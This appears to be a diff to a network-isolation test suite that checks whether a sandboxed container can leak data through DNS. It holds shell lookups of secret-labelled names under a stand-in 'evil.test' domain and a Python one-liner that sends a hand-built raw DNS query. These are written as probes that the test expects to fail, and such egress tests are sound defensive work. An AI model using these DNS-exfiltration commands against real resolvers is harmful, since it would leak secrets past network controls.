@@ -154,14 +154,17 @@ describe("nothing leaves by", () => {
   });
 
   test("questions to a resolver, its own or another", async () => {
-    const asked = await internet.asked("evil.test");
-    const known = await internet.asked("allowed.test");
-    await acme.exec("for i in 1 2 3; do getent hosts secret$i.evil.test; getent hosts secret$i.allowed.test; done");
-    const query = `import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(bytes.fromhex("00010100000100000000000006736563726574046576696c04746573740000010001"), ("${internet.dns}", 53)); print(s.recv(512))`;
+    // Nobody else of this run asks for names of this label.
+    const secret = acme.name;
+    await acme.exec(`for name in evil allowed; do getent hosts ${secret}.$name.test; done`);
+    const question = Buffer.concat([
+      Buffer.from("000101000001000000000000", "hex"),
+      ...[secret, "evil", "test"].map((label) => Buffer.from(`${String.fromCharCode(label.length)}${label}`)),
+      Buffer.from("0000010001", "hex"),
+    ]).toString("hex");
+    const query = `import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(bytes.fromhex("${question}"), ("${internet.dns}", 53)); print(s.recv(512))`;
     expect((await acme.exec(`python3 -c '${query}'`)).code).not.toBe(0);
-    expect(await internet.asked("evil.test")).toBe(asked);
-    expect(await internet.asked("allowed.test")).toBeGreaterThanOrEqual(known);
-    for (const i of [1, 2, 3]) expect(await internet.asked(`secret${i}.allowed.test`)).toBe(0);
+    for (const name of ["evil", "allowed"]) expect(await internet.asked(`${secret}.${name}.test`)).toBe(0);
   });
 
   test("the host, by any of its addresses or by the engine's own", async () => {
